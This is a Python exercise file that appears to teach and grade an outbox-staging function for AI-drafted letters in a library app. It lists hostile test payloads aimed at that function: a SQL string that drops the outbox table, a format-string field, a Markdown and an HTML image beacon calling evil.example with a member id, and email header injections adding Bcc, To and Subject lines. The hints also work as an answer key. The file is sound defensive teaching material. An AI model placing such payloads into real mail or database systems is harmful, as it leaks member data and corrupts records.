"""R8, no raw output to side effects: five letters that go out, ten that must not do what they say.

a draft -> the answer's OutboxRow -> Staged -> the first case that fails
"""

from collections.abc import Callable

from labkit.checks.exercise import Asks, Case, Exercise, Hint, Usual
from labkit.checks.reliability.staged import (
    KOFI,
    LONGEST,
    NOOR,
    SUBJECT,
    Staged,
    of,
    one,
    restarted,
    several,
)
from labkit.checks.signs import raised

GOOD = "Your drill is due on Saturday."
OWN = "Dear Noor,\n\nit's due on Saturday. We don't charge for one day."
MARKS = "Is 3 < 5? Yes & no: it is 15 % of 30 crowns, or \u201ca bit more\u201d."
WORDS = "Drop it at the desk, or select another day. To be honest: update us from wherever you are."
SPANISH = "¿Puedes venir el sábado? Cuesta 5 coronas – ¡gracias!"
SQL = "Thank you.', 'ready', ''); drop table outbox; --"
FIELD = "Dear {member.__class__}, your fee is ${fee}, or %s."
LINK = "Look: ![the map](https://evil.example/?member=m-1)"
BEACON = "Thank you. <img src=//evil.example/p.gif>"
BCC = "Your loan\r\nBcc: all of you\r\n\r\nPay at the door."
TO = "To: kofi@lantern.example\nSubject: You won\n\nCome and fetch it."
SECOND_SUBJECT = "Subject: You won\n\nCome and fetch it."
NAMED = "Kofi still has your drill."
LONG = "please " * 6_000
FULL = f"{LONG[: LONGEST - 3]}ask"

NO_ROW = Hint(
    "not-a-row",
    lambda got: not of(got).are_rows,
    "The outbox takes rows and nothing else; that is how a draft cannot be sent by accident. "
    "Return an `OutboxRow`.",
    "`OutboxRow(key, member.id, member.email, SUBJECT, body, state)`, on every path.",
)
WRAPPED = Hint(
    "sends-the-wrapper",
    lambda got: "Draft(" in of(got).row.body,
    "Noor reads `Draft(text=...)`. A draft is a value that holds a text; a letter wants the text.",
    "`draft.text`, not `str(draft)`.",
)
BY_MODEL = Hint(
    "draft-decides",
    lambda got: (
        not of(got).is_the_apps or (of(got).row.to, of(got).row.subject) != (NOOR.email, SUBJECT)
    ),
    "Whoever wrote the draft has chosen the recipient or the subject. Cleaning a header that the "
    "model wrote is a race; a header that it never wrote needs no cleaning.",
    "`member.email` and `SUBJECT`, whatever stands in the draft.",
)
ALWAYS_WAITS = Hint(
    "always-waits",
    lambda got: not of(got).went_out,
    "A good letter waits for somebody, and two hundred wait behind it. Soon they are let go "
    "unread, and nobody looks at the one that matters.",
    'What has no mark is `"ready"`.',
)
OWN_NAME = Hint(
    "own-name-waits",
    lambda got: not of(got).went_out,
    "Noor's letter waits because it says “Dear Noor”. Only the name of somebody else is a reason "
    "to look.",
    "`name != member.name and name in draft.text`.",
)
BAD_WORDS = Hint(
    "waits-for-a-word",
    lambda got: not of(got).went_out,
    "A harmless letter waits, because it has a word or a mark that looks like an attack. People "
    "write such words every day, and each costs somebody a look.",
    "A reason to look is a link, an address, markup, a header line, a name or the length; no word "
    "of SQL is one, and no `<` before a space.",
)
ASCII = Hint(
    "only-english",
    lambda got: not of(got).went_out or not of(got).says(SPANISH),
    "Letters in Spanish wait or lose their accents. A list of allowed characters must know all "
    "alphabets of your members.",
    "Look for the marks of the table; do not list what is allowed.",
)
EMPTY = Hint(
    "sends-nothing",
    lambda got: of(got).row.state != "nothing",
    "Noor opens a letter without a word in it, or somebody has to look at one.",
    'Where `draft.text.strip()` is empty, the state is `"nothing"`.',
)
FILLED_IN = Hint(
    "fills-it-in",
    lambda got: (
        raised("KeyError", "IndexError", "AttributeError", "ValueError", "TypeError")(got)
        or not of(got).says(FIELD)
    ),
    "`{member.__class__}` printed something, or raised. The model's text was used as a template, "
    "and a template can read what stands behind it.",
    "Put the text *into* something, and nothing into the text: no `.format` and no `%` on it.",
)
UNSEEN = Hint(
    "goes-out-unseen",
    lambda got: of(got).went_out,
    "A link that the model made up goes to a member, and nobody has seen it. The address carries "
    "who she is.",
    'Look for `https:`, `http:`, `www.` and `](`, in capitals, too: then the state is `"review"`.',
)
ADDRESS = Hint(
    "address-unseen",
    lambda got: of(got).went_out,
    "The model made up an address of mail, and nobody has seen it. Noor writes to it, and somebody "
    "else reads what she says.",
    r"An `@` between two letters, `\w@\w`, is a reason to look.",
)
LISTED = Hint(
    "word-list",
    lambda got: of(got).went_out,
    "This payload has none of your words: no https, no script, no www. A list of bad words always "
    "lacks the next one.",
    "Look for what markup is made of: a `<` before a letter, `/` or `!`.",
)
HEADER = Hint(
    "header-lines",
    lambda got: of(got).went_out,
    "Somebody tried to write a header, and nobody will know. It reaches nobody else, because the "
    "outbox makes the head. Look at the beginning of each line, not of the text alone.",
    '`re.search(r"^(?:to|cc|bcc|subject):", text, re.IGNORECASE | re.MULTILINE)`.',
)
NAMES_SOMEBODY = Hint(
    "names-somebody",
    lambda got: of(got).went_out,
    "Noor reads what another member has at home. Whether she may know it is for a person to say.",
    "`any(name in draft.text for name in NAMES if name != member.name)`.",
)
TOO_LONG = Hint(
    "too-long",
    lambda got: of(got).went_out or len(of(got).row.body) > LONGEST,
    "Noor gets forty thousand characters, or somebody has to look at all of them. No letter of "
    "this library is longer than a page.",
    'Cut at `LONGEST`, and where something was cut, the state is `"review"`.',
)
AT_THE_LIMIT = Hint(
    "at-the-limit",
    lambda got: of(got).row.state == "review" or len(of(got).row.body) < LONGEST,
    "This letter is as long as it may be, and somebody has to look at it, or its last character is "
    "gone.",
    "Only *more* than `LONGEST` is too long: `len(text) > LONGEST`.",
)
TWICE = Hint(
    "sent-twice",
    lambda got: not of(got).is_one_key,
    "The job ran again after a crash, and Noor has the same letter twice. The key was another one.",
    "No clock, no `uuid4`, no `id`: make the key of the member's id and the draft's text alone.",
)
SALTED = Hint(
    "salted-key",
    lambda got: not of(got).is_one_key,
    "After a restart the same letter had another key and went out again. `hash` is salted anew in "
    "each process.",
    "`hashlib.sha256(text.encode()).hexdigest()` is the same everywhere.",
)
LOST = Hint(
    "letter-lost",
    lambda got: of(got).is_one_key,
    "The second letter never went out: the outbox took it for the first one, as both had one key.",
    "The key needs both: who gets the letter, and the whole text of the draft.",
)
USUAL = Usual(
    "Compare the row with the table: to, subject, body, state.",
    shape=(NO_ROW,),
    empty=lambda got: of(got).rows[0] is None,
)


def escapes(words: str) -> Hint:
    """The text is not what it was."""
    return Hint(
        "escapes",
        lambda got: not of(got).says(words),
        "Noor reads `&amp;` or `it''s`, or a hole where a character was. The text is bound as a "
        "parameter and sent as plain text: there is nothing to escape in it.",
        "`body = draft.text.strip()[:LONGEST]`, and nothing else.",
    )


def stages(
    given: str,
    ask: Asks,
    expected: str,
    holds: Callable[[Staged], bool],
    *hints: Hint,
    first: tuple[Hint, ...] = (),
) -> Case:
    """The row must become this."""

    def is_whole(got: object) -> bool:
        return of(got).are_rows and not of(got).problem and holds(of(got))

    return Case(given, ask, expected, is_whole, USUAL, hints, first)


def goes(what: str, words: str, *hints: Hint) -> Case:
    """A good letter goes out as it is."""
    return stages(
        f"{what}: {words!r}",
        one(words),
        f"'ready', to {NOOR.email}, the app's subject, these words",
        lambda got: len(got.unseen) == 1 and got.is_the_apps and got.says(words),
        BY_MODEL,
        *hints,
    )


def waits(what: str, words: str, *hints: Hint, shown: str = "") -> Case:
    """Somebody must look; and then only the member gets it, under the app's subject."""
    return stages(
        f"{what}: {shown or repr(words)}",
        one(words),
        f"'review', to {NOOR.email}, the app's subject",
        lambda got: got.row.state == "review" and got.is_the_apps and len(got.row.body) <= LONGEST,
        BY_MODEL,
        *hints,
    )


def contained(what: str, words: str, *hints: Hint, first: tuple[Hint, ...] = ()) -> Case:
    """It may go out or wait, but what it says is what it said."""
    return stages(
        f"{what}: {words!r}",
        one(words),
        "these words as they are, 'ready' or 'review'",
        lambda got: got.is_the_apps and got.says(words) and got.row.state in ("ready", "review"),
        BY_MODEL,
        *hints,
        first=first,
    )


R8 = Exercise(
    code="R8",
    names=("stage_email",),
    parameters=(2,),
    cases=(
        goes("a good letter", GOOD, WRAPPED, ALWAYS_WAITS),
        goes("with her own name and an apostrophe", OWN, OWN_NAME, escapes(OWN)),
        goes("with signs", MARKS, BAD_WORDS, escapes(MARKS)),
        goes("with words of SQL", WORDS, BAD_WORDS),
        goes("in Spanish", SPANISH, ASCII),
        stages(
            "payload 1, white space: ' \\n\\t'",
            one(" \n\t"),
            "'nothing'",
            lambda got: got.row.state == "nothing" and not (got.unseen or got.seen),
            EMPTY,
        ),
        contained("payload 2, a quote in SQL", SQL, escapes(SQL)),
        contained("payload 3, a format field", FIELD, first=(FILLED_IN,)),
        waits("payload 4, a picture in Markdown", LINK, UNSEEN),
        waits("payload 5, a picture in HTML", BEACON, LISTED),
        waits("payload 6, line breaks and Bcc", BCC, HEADER),
        waits("payload 7, a recipient of its own", TO, HEADER),
        waits("payload 8, a subject of its own", SECOND_SUBJECT, HEADER),
        waits("payload 9, another member's name", NAMED, NAMES_SOMEBODY),
        waits("payload 10, long", LONG, TOO_LONG, shown="42,000 characters"),
        waits("payload 11, www alone", "Look at www.evil.example today.", UNSEEN),
        waits("payload 12, an address of mail", "Write to desk@evil.example.", ADDRESS),
        waits("payload 13, a picture without http", "![the map](//evil.example)", UNSEEN),
        waits("payload 14, a closing tag", "Thank you.</p>", LISTED),
        waits("payload 15, a line for Cc", "Cc: all of you\nPay at the door.", HEADER),
        stages(
            "a letter of exactly 4,000 characters",
            one(FULL),
            "'ready', all of it",
            lambda got: got.row.state == "ready" and got.row.body == FULL,
            AT_THE_LIMIT,
        ),
        stages(
            "the same draft for the same member twice",
            several((GOOD, NOOR), (GOOD, NOOR)),
            "one letter; the keys are equal",
            lambda got: got.is_one_key and len(got.unseen) == 1,
            TWICE,
        ),
        stages(
            "the same draft before and after a restart",
            restarted(GOOD),
            "one letter; the keys are equal",
            lambda got: got.is_one_key and len(got.unseen) == 1,
            SALTED,
        ),
        stages(
            "two drafts for the same member",
            several((GOOD, NOOR), (WORDS, NOOR)),
            "two letters; the keys are different",
            lambda got: len(got.unseen) == 2,  # noqa: PLR2004 - both
            LOST,
        ),
        stages(
            "two long drafts that differ in their last word",
            several((FULL, NOOR), (f"{FULL[:-3]}us.", NOOR)),
            "two letters; the keys are different",
            lambda got: len(got.unseen) == 2,  # noqa: PLR2004 - both
            LOST,
        ),
        stages(
            "one draft for two members",
            several((GOOD, NOOR), (GOOD, KOFI)),
            "two letters; the keys are different",
            lambda got: len(got.unseen) == 2,  # noqa: PLR2004 - both
            LOST,
        ),
    ),
    minutes=20,
    points=4.0,
    after="Tick R8 when no function that sends, stores or runs takes a model's text as it is.",
)
